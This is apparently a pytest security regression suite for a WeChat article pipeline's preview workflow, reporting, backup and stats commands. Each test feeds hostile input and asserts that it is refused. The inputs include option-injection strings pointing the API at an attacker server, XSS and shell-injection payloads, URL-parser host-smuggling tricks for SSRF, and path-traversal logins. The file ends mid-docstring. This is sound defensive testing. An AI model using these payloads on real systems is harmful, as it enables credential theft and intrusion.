"""Attacks on what issues 13 and 14 added: the WeChat preview workflow, report, backup, stats,
doctor and new. Each test is an attack a hostile editor, commenter or server would try; every
one ran red before its fix (or is a held case kept so it stays held)."""

from __future__ import annotations

import datetime
import hashlib
import html
import http.server
import json
import os
import re
import shutil
import subprocess
import sys
import threading
from pathlib import Path
from typing import Iterator

import pytest
import yaml
from hypothesis import assume, given, settings
from hypothesis import strategies as st

from pipeline.backup import IMAGE_HOSTS, Downloader, export
from tests.test_backup import PHOTO, official, published  # noqa: F401 - the fixture
from tests.testing.fixtures import PROJECT, commit_all, write_article
from tests.testing.preview_job import (
    ARTICLE, PREVIEW_WORKFLOW, PUSHED, SEEN, comment_on_pull, copy_line, preview_token, run_find_step, step_command,
)

SECRET = "s3cr3t-official-never-leaves"
IMAGE_HOSTS_LIST = sorted(IMAGE_HOSTS)


class _Recorder(http.server.BaseHTTPRequestHandler):
    """An attacker's server: remembers every request line and body it is sent."""

    seen: list[str] = []

    def _record(self) -> None:
        length = int(self.headers.get("Content-Length") or 0)
        body = self.rfile.read(length).decode("utf-8", "replace") if length else ""
        self.seen.append(self.path + " " + body)
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.end_headers()
        self.wfile.write(b'{"errcode": 40001, "errmsg": "invalid credential"}')

    do_GET = do_POST = _record

    def log_message(self, format: str, *args: object) -> None:  # noqa: A002 - the stdlib's name
        return


@pytest.fixture(scope="module")
def attacker() -> Iterator[tuple[str, list[str]]]:
    seen: list[str] = []
    handler = type("Recorder", (_Recorder,), {"seen": seen})
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}/cgi-bin", seen
    finally:
        server.shutdown()
        server.server_close()


# -- wechat-preview.yml: a commenter's words become wxpub's arguments ------------------------------


@pytest.mark.parametrize("smuggled", ["--api {url}", "--api={url}", "-- --api {url}", "--sandbox-url={url}"])
def test_a_preview_comment_cannot_point_wxpub_at_another_server(repo: Path, attacker: tuple[str, list[str]],
                                                                 tmp_path: Path, smuggled: str) -> None:
    """`/preview 张三 --api https://evil/cgi-bin` puts `--api …` among wxpub's arguments: the
    account's appid and secret would go to the commenter's server. The send step refuses any
    name that reads as an option, so nothing reaches that server."""
    url, seen = attacker
    seen.clear()
    write_article(repo)
    sha = commit_all(repo, "one article")
    runner_temp = tmp_path / "runner"
    runner_temp.mkdir()
    (runner_temp / "articles").write_text(ARTICLE + "\n", encoding="utf-8")
    env = {
        "PATH": f"{Path(sys.executable).parent}:{os.environ['PATH']}",
        "HOME": str(tmp_path), "RUNNER_TEMP": str(runner_temp), "HEAD_SHA": sha,
        "TO": "张三 " + smuggled.format(url=url),
        "WXPUB_OFFICIAL_APPID": "wxofficialappid", "WXPUB_OFFICIAL_SECRET": SECRET,
        "WXPUB_PREVIEW_OPENID_LISI": "oLisi0000000000000000000002",
    }
    result = subprocess.run(step_command(PREVIEW_WORKFLOW, "Send previews", tmp_path / "runner" / "send.sh"),
                            cwd=repo, env=env, capture_output=True, text=True, timeout=120)
    assert seen == [], f"the commenter's server was called: {seen}"
    assert result.returncode != 0, result.stdout + result.stderr
    assert SECRET not in result.stdout + result.stderr


# -- report: names and titles in the job summary and the page --------------------------------------

def _summary_cells(cell: str) -> list[str]:
    """The cells of a one-row GFM table holding `cell` then `z`, as markdown-it renders them."""
    from markdown_it import MarkdownIt

    rendered = MarkdownIt("commonmark").enable("table").render(f"| a | b |\n|---|---|\n| {cell} | z |\n")
    body = rendered.split("<tbody>", 1)[1]
    return re.findall(r"<td>(.*?)</td>", body, re.DOTALL)


def _spaces(text: str) -> str:
    return " ".join(text.split())


@settings(max_examples=300, deadline=None)
@given(st.one_of(st.text(alphabet=st.characters(blacklist_categories=("Cs", "Cc")) | st.sampled_from("\r\n\\|[]()<>&*_`!:"),
                         max_size=40),
                 st.sampled_from(["\\[点我\\](https://evil.example)", "x\\|y", "\\<img src=x onerror=alert(1)>",
                                  "a\\", "&lt;b&gt;", "![](https://evil.example/t.png)", "<https://evil.example>"])))
def test_a_summary_cell_shows_any_text_as_written(text: str) -> None:
    """An editor's title, a department's name, an approver's login in the Markdown summary: one
    cell, no tag or link, and the text as written (whitespace aside). A title's own backslash
    once cancelled the escape before `[`, and `\\[x\\](url)` became a link."""
    from pipeline.report import _md_cell

    cells = _summary_cells(_md_cell(text))
    assert len(cells) == 2 and cells[1] == "z", cells
    assert "<" not in cells[0], cells[0]  # markdown-it escapes text: any '<' left is a tag it made
    assert _spaces(html.unescape(cells[0])) == _spaces(text.replace("\x00", "\ufffd")), cells[0]


def test_a_name_with_a_closing_script_tag_stays_text_in_the_charts() -> None:
    """Held: pygal writes labels into the SVG as XML text, and the config script it also writes
    (dropped by report._chart) holds none of them, so `</script>` in a name cannot end it early."""
    import pygal

    from pipeline.report import _chart

    hostile = "</script><img src=x onerror=alert(1)>"
    svg = _chart(pygal.Bar, hostile, [hostile], [(hostile, [1.0])])
    assert "<img" not in svg and "<script" not in svg and "onerror=alert(1)&gt;" in svg


# -- backup: a previous export tampered with (restored from a cache anyone's run may have saved) ---

@pytest.mark.parametrize("how", ["file", "folder"])
def test_a_symlink_in_the_previous_export_never_brings_an_outside_file_in(published: Path, sandbox: str,
                                                                          tmp_path: Path, how: str) -> None:
    """The previous export's image (or its images folder) replaced by a link to a file outside,
    its manifest record given that file's sha256: the next export must not copy or link that
    file in (backup.yml uploads the export as an artifact), and fetches the image again."""
    client = official(published, sandbox)
    out = tmp_path / "backup"
    day = datetime.date(2026, 11, 30)
    first = export(client, "official", out, day, Downloader(proxy=sandbox))
    outside = tmp_path / "runner-home"
    outside.mkdir()
    manifest = json.loads((first.folder / "manifest.json").read_text(encoding="utf-8"))
    (record,) = manifest["images"].values()
    image = first.folder / record["file"]
    secret = b"-----BEGIN OPENSSH PRIVATE KEY----- not for the artifact"
    (outside / image.name).write_bytes(secret)
    if how == "file":
        image.unlink()
        image.symlink_to(outside / image.name)
    else:
        shutil.rmtree(image.parent)
        image.parent.symlink_to(outside, target_is_directory=True)
    record["sha256"] = hashlib.sha256(secret).hexdigest()
    record["size"] = len(secret)
    (first.folder / "manifest.json").write_text(json.dumps(manifest), encoding="utf-8")
    again = export(client, "official", out, day + datetime.timedelta(days=1), Downloader(proxy=sandbox))
    files = [p for p in again.folder.rglob("*")]
    assert not [p for p in files if p.is_symlink()], files
    assert not [p for p in files if p.is_file() and p.read_bytes() == secret]
    assert [r["sha256"] for r in again.manifest["images"].values()] == [hashlib.sha256(PHOTO).hexdigest()]


# -- stats and report: ledger and stats lines as a hostile server or a hand edit left them ----------

@settings(max_examples=300, deadline=None)
@given(st.one_of(st.text(max_size=60),
                 st.builds("https://mp.weixin.qq.com/s?mid={}&idx={}".format,
                           st.text(alphabet="0123456789²³١٢０１", min_size=1, max_size=4),
                           st.text(alphabet="0123456789²３", min_size=1, max_size=2)),
                 st.sampled_from(["http://[mp.weixin.qq.com/s?mid=1&idx=1", "http://]x/?mid=1&idx=1",
                                  "https://mp.weixin.qq.com:99999/s?mid=1&idx=1"])))
def test_any_link_in_a_ledger_line_is_a_msgid_of_ascii_digits_or_none(url: str) -> None:
    """The link comes from WeChat's answer (freepublish/get) or a ledger line: an unbalanced '['
    made urlsplit raise (wxpub stats and report stopped with a traceback), and '²' passed
    str.isdigit as a digit of a msgid WeChat never uses."""
    from pipeline.stats import msgid_of

    found = msgid_of(url)
    assert found is None or re.fullmatch(r"[0-9]+_[0-9]+", found), found


def test_a_published_line_with_a_broken_link_is_untracked_not_a_crash(repo: Path, tmp_path: Path,
                                                                      capsys: pytest.CaptureFixture[str]) -> None:
    from pipeline.cli import main
    from pipeline.commands.publish import SANDBOX_LEDGER_REF
    from pipeline.ledger import Entry, Ledger

    write_article(repo)
    commit_all(repo, "one article")
    Ledger.open(repo, ref=SANDBOX_LEDGER_REF).append(Entry(
        at="2026-10-20T04:30:00+00:00", run="r1", step="published", account="official", path=ARTICLE + "/index.md",
        data={"url": "http://[mp.weixin.qq.com/s?mid=1&idx=1", "article_id": "a1"}))
    code = main(["--root", str(repo), "report", "--sandbox", "--since", "2026-10-01", "--until", "2026-10-31",
                 "-o", str(tmp_path / "report"), "--format", "json"])
    captured = capsys.readouterr()
    assert "Traceback" not in captured.err and code == 0, captured.err


@pytest.mark.parametrize("data", [{}, {"date": "yesterday"}, {"date": 20261020}, {"date": "2026-10-20", "articles": []},
                                  {"date": "2026-10-20", "articles": {"1_1": {"read_user": "many"}}},
                                  {"date": "2026-10-20", "articles": {"1_1": ["read_user", 3]}},
                                  {"date": "2026-10-20", "articles": {"1_1": {"read_user": True, "share_user": -4}}}])
def test_a_damaged_line_in_the_stats_ref_is_skipped_not_a_crash(repo: Path, tmp_path: Path, data: dict[str, object],
                                                                capsys: pytest.CaptureFixture[str]) -> None:
    """refs/wxpub/stats is plain Git: a line written by an older version, a hand edit or a
    runner that died mid-way must not stop every later report and stats run."""
    from pipeline.cli import main
    from pipeline.ledger import Entry, Ledger
    from pipeline.stats import SANDBOX_STATS_REF, STEP, recorded

    write_article(repo)
    commit_all(repo, "one article")
    store = Ledger.open(repo, ref=SANDBOX_STATS_REF)
    store.append(Entry(at="2026-10-21T01:00:00+00:00", run="r1", step=STEP, account="official", data=data))
    for day in recorded(Ledger.open(repo, ref=SANDBOX_STATS_REF).entries):  # what is kept are counts
        assert all(isinstance(n, int) and not isinstance(n, bool) and n >= 0
                   for figures in day.articles.values() for n in figures.values()), day
    code = main(["--root", str(repo), "report", "--sandbox", "--since", "2026-10-01", "--until", "2026-10-31",
                 "-o", str(tmp_path / "report"), "--format", "json"])
    captured = capsys.readouterr()
    assert "Traceback" not in captured.err and code == 0, captured.err


# -- wechat-preview.yml: the head that was asked for is the head that is sent -----------------------

def test_a_push_after_the_label_is_not_what_gets_sent(tmp_path: Path) -> None:
    """The reviewer labels the pull request at head A; its author pushes B before the job starts.
    The preview must be of A, the commit the reviewer saw, or of nothing: the job asks GitHub
    for the head, and the event says which head was labelled."""
    from tests.testing.fake_github import FakeGitHub

    seen, pushed = "a" * 40, "c" * 40
    with FakeGitHub() as github:
        github.set_role("reviewer", "write")
        github.add_pull(7, "editor", seen, files=[(ARTICLE + "/index.md", "modified", None)])
        github.push(7, pushed)
        code, output, log = run_find_step(tmp_path, github.url, preview_token(github), github.repo, EVENT_NAME="pull_request_target",
                                          PR_NUMBER="7", LABELED_SHA=seen)
    assert code != 0 and pushed not in output, (output, log)


def test_a_label_sends_nothing_and_replies_with_the_line(tmp_path: Path) -> None:
    """Nothing pushed since the label, but a label names no commit: the head it was put on may be
    a push made while the reviewer read the diff. The reply gives the line for the head, with the
    names of WXPUB_PREVIEW_TO (tests/test_attack_preview_sha.py has the push before the label)."""
    from tests.testing.fake_github import FakeGitHub

    with FakeGitHub() as github:
        github.set_role("reviewer", "write")
        github.add_pull(7, "editor", "a" * 40, files=[(ARTICLE + "/index.md", "modified", None)])
        code, output, log = run_find_step(tmp_path, github.url, preview_token(github), github.repo, EVENT_NAME="pull_request_target",
                                          PR_NUMBER="7", LABELED_SHA="a" * 40)
        ((number, _, reply),) = github.comments
    assert code != 0 and output == "", log
    assert number == 7 and reply.startswith("@reviewer ") and "wechat-preview" in reply
    assert copy_line(reply) == f"/preview 张三 @{'a' * 40}"


# -- wechat-preview.yml: who may ask for a preview --------------------------------------------------

def _ask_bycomment_on_pull(tmp_path: Path, sender: str, roles: dict[str, str]) -> tuple[int, str, str, list[str]]:
    """`/preview 张三 @<a * 40>` commented by `sender` on a repository where `roles` hold: (exit code,
    GITHUB_OUTPUT, log, the paths the job asked GitHub for)."""
    from tests.testing.fake_github import FakeGitHub

    with FakeGitHub() as github:
        for login, role in roles.items():
            github.set_role(login, role)
        github.add_pull(7, "editor", "a" * 40, files=[(ARTICLE + "/index.md", "modified", None)])
        code, output, log = run_find_step(tmp_path, github.url, preview_token(github), github.repo, EVENT_NAME="issue_comment",
                                          PR_NUMBER="7", COMMENT="/preview 张三 @" + "a" * 40, SENDER=sender)
        return code, output, log, github.paths()


@pytest.mark.parametrize("role", ["read", "triage"])
def test_a_preview_comment_needs_write_access_not_only_an_association(tmp_path: Path, role: str) -> None:
    """author_association says MEMBER for every organisation member and COLLABORATOR for a
    read-only collaborator: the `if:` lets both through. GitHub's own answer on the commenter's
    permission decides, and read or triage (which reads as `read`) is refused before the job
    looks at the pull request."""
    code, output, log, paths = _ask_bycomment_on_pull(tmp_path, "member", {"member": role, "writer": "write"})
    assert code != 0 and output == "", log
    assert "没有写权限" in log and "member" in log
    assert paths == ["/repos/jcu-media/site/collaborators/member/permission"]


@pytest.mark.parametrize("role", ["write", "maintain", "admin"])
def test_a_preview_comment_by_someone_who_can_push_is_sent(tmp_path: Path, role: str) -> None:
    code, output, log, _ = _ask_bycomment_on_pull(tmp_path, "Writer", {"writer": role})  # logins ignore case
    assert code == 0, log
    assert f"sha={'a' * 40}" in output.splitlines() and "to=张三" in output.splitlines()


def test_a_preview_comment_by_someone_without_access_is_refused(tmp_path: Path) -> None:
    """Not a collaborator of the private repository (or no such user): GitHub answers 404."""
    code, output, log, paths = _ask_bycomment_on_pull(tmp_path, "stranger", {"writer": "write"})
    assert code != 0 and output == "", log
    assert "没有写权限" in log and "stranger" in log
    assert paths == ["/repos/jcu-media/site/collaborators/stranger/permission"]


def test_a_label_by_someone_with_triage_access_is_refused(tmp_path: Path) -> None:
    """Triage may add labels: the label `wechat-preview` is heard from a writer only, too."""
    from tests.testing.fake_github import FakeGitHub

    with FakeGitHub() as github:
        github.set_role("triager", "triage")
        github.add_pull(7, "editor", "a" * 40, files=[(ARTICLE + "/index.md", "modified", None)])
        code, output, log = run_find_step(tmp_path, github.url, preview_token(github), github.repo, EVENT_NAME="pull_request_target",
                                          PR_NUMBER="7", LABELED_SHA="a" * 40, SENDER="triager")
    assert code != 0 and output == "", log
    assert "没有写权限" in log


@settings(max_examples=25, deadline=None)
@given(sender=st.one_of(st.text(max_size=40),
                        st.sampled_from(["writer/../../member", "writer/permission?x=", "writer%2F..", "../writer",
                                         "writer ", " writer", "writer\n", "-writer", "writer[bot]", "wr\u0131ter"]),
                        st.from_regex(r"[A-Za-z0-9][A-Za-z0-9-]{0,38}", fullmatch=True)))
def test_only_a_writer_login_is_ever_heard(tmp_path_factory: pytest.TempPathFactory, sender: str) -> None:
    """Whatever the event says the sender is (a login of another shape, one that walks the URL
    to another path, a near spelling), the job goes on only for the login GitHub gives write access."""
    assume("\x00" not in sender)  # an environment variable cannot hold NUL
    code, output, log, paths = _ask_bycomment_on_pull(tmp_path_factory.mktemp("sender"), sender,
                                               {"writer": "write", "member": "read"})
    if sender.lower() == "writer":
        assert code == 0, log
    else:
        assert code != 0 and output == "", (sender, log)
        assert all(path.endswith("/permission") for path in paths), paths


# -- doctor: a server that repeats what it was sent --------------------------------------------------

class _Echo(http.server.BaseHTTPRequestHandler):
    """A WeChat (or a proxy in front of it) whose error repeats the request: the secret with it."""

    errcode = 40125

    def do_POST(self) -> None:  # noqa: N802 - the stdlib's name
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0)).decode("utf-8", "replace")
        answer = {"errcode": self.errcode, "errmsg": f"invalid ip 10.0.0.9, request {self.path} {body} rid: 1"}
        data = json.dumps(answer).encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    do_GET = do_POST

    def log_message(self, format: str, *args: object) -> None:  # noqa: A002 - the stdlib's name
        return


@pytest.mark.parametrize("errcode", [40125, 40164, 40013, 45009])
def test_doctor_never_shows_a_secret_the_server_repeats(repo: Path, tmp_path: Path, errcode: int,
                                                        capsys: pytest.CaptureFixture[str],
                                                        monkeypatch: pytest.MonkeyPatch) -> None:
    """Held: the WeChat client redacts the AppSecret from every error before doctor words it."""
    from pipeline.cli import main

    handler = type("Echo", (_Echo,), {"errcode": errcode})
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.02}, daemon=True).start()
    summary = tmp_path / "summary.md"
    monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(summary))
    monkeypatch.setenv("WXPUB_OFFICIAL_APPID", "wxofficialappid")
    monkeypatch.setenv("WXPUB_OFFICIAL_SECRET", SECRET)
    try:
        for fmt in ("text", "json"):
            code = main(["--root", str(repo), "doctor", "--account", "official", "--format", fmt,
                         "--api", f"http://127.0.0.1:{server.server_address[1]}/cgi-bin"])
            captured = capsys.readouterr()
            assert code == 1 and "Traceback" not in captured.err, captured.err
            assert SECRET not in captured.out + captured.err, captured.out
            assert errcode == 40164 or "***" in captured.out  # the server did repeat it, and it was redacted
    finally:
        server.shutdown()
        server.server_close()
    assert SECRET not in summary.read_text(encoding="utf-8")


# -- new: what an editor may type as the short name --------------------------------------------------

@settings(max_examples=40, deadline=None)
@given(st.one_of(st.integers(min_value=1, max_value=400).map(lambda n: "a" * n),
                 st.text(alphabet="abc-0/.\\\x00\x1b\n ", min_size=1, max_size=30)))
def test_any_slug_makes_one_folder_in_content_or_a_clear_refusal(tmp_path_factory: pytest.TempPathFactory,
                                                                  slug: str) -> None:
    """A long short name (300 letters) passed the check and the file system refused the folder
    name: a traceback (exit 3). Whatever is typed, one article folder under content/ or a
    Chinese refusal (exit 2), and nothing written outside."""
    import contextlib
    import io

    from pipeline.cli import main
    from tests.testing.fixtures import make_repo

    assume(slug != "--")  # Python 3.11's argparse drops an option value of exactly '--': not ours
    root = make_repo(tmp_path_factory.mktemp("new"))
    before = {p for p in root.parent.rglob("*")}
    err = io.StringIO()
    with contextlib.redirect_stderr(err), contextlib.redirect_stdout(io.StringIO()):
        code = main(["--root", str(root), "new", "--account", "official", "--department", "publicity",
                     "--date", "2026-11-30", f"--slug={slug}"])
    created = {p for p in root.parent.rglob("*")} - before
    assert "Traceback" not in err.getvalue() and code in (0, 2), err.getvalue()
    if code == 0:
        folder = root / "content" / "official" / "publicity" / f"2026-11-30-{slug}"
        assert created == {root / "content", folder.parent.parent, folder.parent, folder, folder / "index.md"}
    else:
        assert created == set() and "短名" in err.getvalue(), err.getvalue()


# -- backup: image links whose host two URL parsers read differently ---------------------------------

@settings(max_examples=150, deadline=None)
@given(trick=st.sampled_from(["\\@", "\\\\@", "%5C@", "\\:1@", "@", ":@", "\\/@", "#\\@", "\\;@", "\\\t@"]),
       host=st.sampled_from(IMAGE_HOSTS_LIST), path=st.sampled_from(["/x.jpg", "", "/mmbiz_jpg/a/0?wx_fmt=jpeg"]))
def test_an_image_link_never_reaches_a_host_but_wechats(attacker: tuple[str, list[str]], trick: str, host: str,
                                                        path: str) -> None:
    """`http://10.0.0.5\\@mmbiz.qpic.cn/x` is mmbiz.qpic.cn to urlsplit and 10.0.0.5 to urllib3,
    which requests connects with: a draft's <img> could make the whitelisted runner fetch from
    the school's network and keep the answer in the uploaded export."""
    base, seen = attacker
    seen.clear()
    inside = base.removeprefix("http://").removesuffix("/cgi-bin")
    got = Downloader(proxy=None, timeout=5).get(f"http://{inside}{trick}{host}{path}")
    assert seen == [] and isinstance(got, str), (seen, got)


# -- backup.yml: where the export goes -----------------------------------------------------------------

def test_the_backup_workflow_keeps_exports_off_caches_and_artifacts() -> None:
    """The export holds the draft box (never approved for reading). A pull request's workflow,
    a fork's too, may restore the default branch's caches, and anyone may download a public
    repository's artifacts: backup.yml used both. The export stays on the runner's own disk."""
    workflow = PROJECT / ".github" / "workflows" / "backup.yml"
    document = yaml.safe_load(workflow.read_text(encoding="utf-8"))
    (job,) = document["jobs"].values()
    uses = [str(step.get("uses", "")).split("@")[0] for step in job["steps"]]
    assert not [u for u in uses if u.startswith(("actions/cache", "actions/upload-artifact"))], uses
    (run,) = [step for step in job["steps"] if "wxpub backup" in str(step.get("run", ""))]
    assert run["run"].strip() == 'wxpub backup -o "${BACKUP_DIR:-$HOME/wxpub-backup}"'
    assert run["env"]["BACKUP_DIR"] == "${{ vars.WXPUB_BACKUP_DIR }}"


# -- stats: a datacube answer with odd types -------------------------------------------------------

class _Datacube(http.server.BaseHTTPRequestHandler):
    """WeChat with a token for anyone, and `answer` for every datacube call."""

    answer: object = {}

    def do_POST(self) -> None:  # noqa: N802 - the stdlib's name
        self.rfile.read(int(self.headers.get("Content-Length") or 0))
        body = {"access_token": "t0k3n-for-the-test", "expires_in": 7200} if self.path.startswith("/cgi-bin/stable_token") else self.answer
        data = json.dumps(body).encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def log_message(self, format: str, *args: object) -> None:  # noqa: A002 - the stdlib's name
        return


_ODD = st.one_of(st.none(), st.booleans(), st.integers(), st.floats(allow_nan=True), st.text(max_size=5),
                 st.lists(st.none(), max_size=2), st.dictionaries(st.text(max_size=3), st.none(), max_size=2))


@settings(max_examples=60, deadline=None)
@given(answer=st.one_of(st.fixed_dictionaries({"list": _ODD}),
                        st.fixed_dictionaries({"list": st.lists(st.fixed_dictionaries({"msgid": _ODD, "detail": _ODD}),
                                                                max_size=3)}),
                        st.fixed_dictionaries({"is_delay": _ODD, "list": st.just([])})))
def test_any_datacube_answer_gives_counts_or_nothing_never_a_crash(answer: dict[str, object]) -> None:
    figures = _datacube_day(answer)
    assert figures is None or all(isinstance(n, int) and not isinstance(n, bool) and n >= 0
                                  for measures in figures.values() for n in measures.values())


def test_a_well_formed_datacube_answer_is_read() -> None:
    """The same server and client as above read WeChat's own shape: the property is not vacuous."""
    answer = {"list": [{"ref_date": "2026-11-29", "msgid": "1_1", "detail": {"read_user": 3, "share_user": 1}}],
              "is_delay": False}
    assert _datacube_day(answer) == {"1_1": {"read_user": 3, "share_user": 1}}


def _datacube_day(answer: object) -> dict[str, dict[str, int]] | None:
    from pipeline.stats import _day
    from pipeline.wechat import Credentials, WeChat

    handler = type("Datacube", (_Datacube,), {"answer": answer})
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.02}, daemon=True).start()
    try:
        client = WeChat(Credentials("wxappid", SECRET), base_url=f"http://127.0.0.1:{server.server_address[1]}/cgi-bin/",
                        timeout=5)
        return _day(client, datetime.date(2026, 11, 29))
    finally:
        server.shutdown()
        server.server_close()


@settings(max_examples=40, deadline=None)
@given(page=st.fixed_dictionaries({"item": st.one_of(_ODD, st.lists(_ODD, max_size=2)), "total_count": _ODD}))
def test_any_list_page_gives_items_or_a_wechat_error_never_a_crash(page: dict[str, object]) -> None:
    """draft/batchget (the preview's draft search, backup's draft box) answered in another shape:
    items that are objects, or a WeChatError the commands already word; never a TypeError."""
    from pipeline.wechat import Credentials, WeChat, WeChatError

    handler = type("Pages", (_Datacube,), {"answer": page})
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.02}, daemon=True).start()
    try:
        client = WeChat(Credentials("wxappid", SECRET), base_url=f"http://127.0.0.1:{server.server_address[1]}/cgi-bin/",
                        timeout=5)
        try:
            items = list(client.drafts())
        except WeChatError:
            items = []
    finally:
        server.shutdown()
        server.server_close()
    assert all(isinstance(item, dict) for item in items), items


# -- wechat-preview.yml: a /preview comment sends the commit it names, or nothing --------------------



@pytest.mark.parametrize("named", [SEEN, SEEN.upper()])
@pytest.mark.parametrize("space", [" ", "\t", "\u3000", " \u3000 "])  # U+3000: what a Chinese input method types
def test_a_preview_comment_naming_the_head_sends_it(tmp_path: Path, named: str, space: str) -> None:
    code, output, log, replies = comment_on_pull(tmp_path, space.join(["/preview", "张三", "李四", f"@{named}"]) + "\r\n谢谢")
    assert code == 0, log
    assert output.splitlines() == [f"sha={SEEN}", "to=张三 李四"]
    assert replies == []


def test_a_push_after_a_preview_comment_is_not_what_gets_sent(tmp_path: Path) -> None:
    """The reviewer looked at SEEN and wrote `/preview 张三 @<SEEN>`; the author pushed PUSHED before
    the job ran. Nothing is sent, and the reply names the new head and the line that sends it."""
    code, output, log, replies = comment_on_pull(tmp_path, f"/preview 张三 @{SEEN}", PUSHED, commits=(SEEN,))
    assert code != 0 and output == "", log
    ((number, _, reply),) = replies
    assert number == 7 and reply.startswith("@reviewer ") and f"`{PUSHED[:7]}`" in reply
    assert copy_line(reply) == f"/preview 张三 @{PUSHED}"
    assert "不是合并请求现在最新的提交" in log


def test_a_push_while_the_job_reads_the_pull_request_is_not_what_gets_sent(tmp_path: Path) -> None:
    """The head matched when first read; the author pushes before the files are listed: the
    files may be the new commit's, so nothing is sent, and the reply offers the new head."""
    code, output, log, replies = comment_on_pull(tmp_path, f"/preview 张三 @{SEEN}", during=PUSHED)
    assert code != 0 and output == "", log
    ((_, _, reply),) = replies
    assert copy_line(reply) == f"/preview 张三 @{PUSHED}"


def test_the_copied_line_sends_the_head_it_names(tmp_path: Path) -> None:
    _, _, _, replies = comment_on_pull(tmp_path / "first", "/preview 张三 李四", PUSHED, commits=(SEEN,))
    ((_, _, reply),) = replies
    code, output, log, again = comment_on_pull(tmp_path / "second", copy_line(reply), PUSHED, commits=(SEEN,))
    assert code == 0 and again == [], log
    assert output.splitlines() == [f"sha={PUSHED}", "to=张三 李四"]


@pytest.mark.parametrize("comment", ["/preview 张三", "/preview 张三 李四\n@" + SEEN, "/preview\t张三 "])
def test_a_preview_comment_without_a_commit_sends_nothing_and_replies_with_the_line(tmp_path: Path,
                                                                                   comment: str) -> None:
    code, output, log, replies = comment_on_pull(tmp_path, comment)
    assert code != 0 and output == "", log
    ((_, _, reply),) = replies
    names = comment.split("\n")[0].split()[1:]
    assert copy_line(reply) == f"/preview {' '.join(names)} @{SEEN}"
    assert "没有写明要预览哪一次提交" in reply


@pytest.mark.parametrize("ref", ["@" + SEEN[:6], "@" + SEEN[:7], "@" + SEEN[:39], "@", "@5eedaag", "@" + SEEN + "a",
                                 "@" + SEEN + "…", f"@{SEEN} @{SEEN}", "@０１２３４５６", "@HEAD", "@main", "@-" + SEEN])
def test_a_commit_named_in_another_shape_is_refused(tmp_path: Path, ref: str) -> None:
    """A prefix (even GitHub's 7 digits), empty, not hex, too long, trailing text, two commits,
    full-width digits, a branch or a symbolic name: none names one commit beyond forgery, so
    nothing is sent."""
    code, output, log, replies = comment_on_pull(tmp_path, f"/preview 张三 {ref}")
    assert code != 0 and output == "", log
    ((_, _, reply),) = replies
    assert copy_line(reply) == f"/preview 张三 @{SEEN}"


@settings(max_examples=30, deadline=None)
@given(ref=st.one_of(st.text(max_size=44), st.from_regex(r"[0-9a-fA-F]{0,41}", fullmatch=True),
                     st.integers(0, 40).map(lambda n: SEEN[:n]), st.integers(0, 40).map(lambda n: PUSHED[:n])))
def test_only_the_heads_whole_sha_is_sent(tmp_path_factory: pytest.TempPathFactory, ref: str) -> None:
    assume("\x00" not in ref and not set(ref) & set(" \t\n\r\x0b\x0c\x1c\x1d\x1e\x1f\x85\xa0\u3000"))
    code, output, log, replies = comment_on_pull(tmp_path_factory.mktemp("ref"), f"/preview 张三 @{ref}")
    if ref.lower() == SEEN:
        assert code == 0 and replies == [] and f"sha={SEEN}" in output.splitlines(), (ref, log)
    else:
        assert code != 0 and output == "" and len(replies) == 1, (ref, log)


def test_a_commit_outside_the_pull_request_is_refused(tmp_path: Path) -> None:
    elsewhere = "0123456789abcdef" * 2 + "01234567"
    code, output, log, replies = comment_on_pull(tmp_path, f"/preview 张三 @{elsewhere}")
    assert code != 0 and output == "" and len(replies) == 1, log


def test_a_prefix_the_author_could_forge_is_refused(tmp_path: Path) -> None:
    """The author made a commit whose sha starts as the head's does (7 hex digits are 28 bits:
    minutes of hashing) and could push it after the comment: a prefix names no commit for sure."""
    code, output, log, replies = comment_on_pull(tmp_path, f"/preview 张三 @{SEEN[:12]}", SEEN)
    assert code != 0 and output == "", log
    ((_, _, reply),) = replies
    assert "40 位" in reply and copy_line(reply) == f"/preview 张三 @{SEEN}"


@pytest.mark.parametrize("words", ["$(touch {marker})", "`touch {marker}`", "; touch {marker} #", "$'\\x41'",
                                   "\"$(touch {marker})\"", "*", "${{IFS}}touch${{IFS}}{marker}"])
def test_hostile_words_in_a_preview_comment_stay_words(tmp_path: Path, words: str) -> None:
    """Whatever the commenter writes among the names is passed on as words: nothing runs it."""
    marker = tmp_path / "ran"
    hostile = words.format(marker=marker)
    code, output, log, replies = comment_on_pull(tmp_path, f"/preview 张三 {hostile} @{SEEN}")
    assert not marker.exists()
    assert code == 0 and output.splitlines() == [f"sha={SEEN}", f"to=张三 {hostile}"], log
    code, _, log, replies = comment_on_pull(tmp_path / "no-sha", f"/preview 张三 {hostile}")
    assert not marker.exists() and code != 0
    assert copy_line(replies[0][2]) == f"/preview 张三 {hostile} @{SEEN}"


@pytest.mark.parametrize("second", ["--api http://127.0.0.1:9/cgi-bin", "@{seen}", "```\n@everyone", "::error::x"])
def test_only_the_first_line_of_a_preview_comment_is_read(tmp_path: Path, second: str) -> None:
    """A second line cannot add a name, an option or a commit, nor break out of the reply's code block."""
    code, output, log, replies = comment_on_pull(tmp_path, f"/preview 张三\n{second.format(seen=SEEN)}")
    assert code != 0 and output == "", log
    ((_, _, reply),) = replies
    assert copy_line(reply) == f"/preview 张三 @{SEEN}" and "everyone" not in reply and "--api" not in reply


@pytest.mark.parametrize("smuggled", ["--api {url}", "--api={url}", "-- --api {url}"])
def test_an_option_in_a_preview_comment_never_reaches_wxpub(repo: Path, attacker: tuple[str, list[str]],
                                                            tmp_path: Path, smuggled: str) -> None:
    """From the comment to the send step, as the job runs them: `--api` among the names, with the
